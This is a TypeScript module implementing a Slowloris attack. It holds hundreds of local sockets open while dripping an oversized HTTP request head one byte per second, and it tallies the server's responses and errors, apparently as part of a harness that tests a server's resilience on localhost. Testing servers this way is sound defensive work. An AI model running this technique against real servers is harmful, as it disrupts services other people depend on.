/** Slowloris: a request's head, a byte a second. */
import { connect } from 'node:net'
import { addressOf, keepOpen, type StartAttack } from '../attack.js'

const SOCKETS = 300
const EACH = 30
const HEAD = `GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ${'x'.repeat(4000)}`

export const slowHead: StartAttack = ({ port }, counts) =>
  keepOpen(SOCKETS, (n, ended) => {
    const socket = connect({ port, host: '127.0.0.1', localAddress: addressOf(2, Math.floor(n / EACH)) })
    let at = 0
    const drip = setInterval(() => socket.write(HEAD[at++]!), 1000)
    let answer = ''
    socket.on('data', data => {
      answer ||= `${data}`.slice(0, 12)
    })
    socket.on('error', ({ code }: NodeJS.ErrnoException) => counts.add(`${code}`))
    socket.on('close', () => {
      clearInterval(drip)
      counts.add(answer || 'ended')
      ended()
    })
    return socket
  })
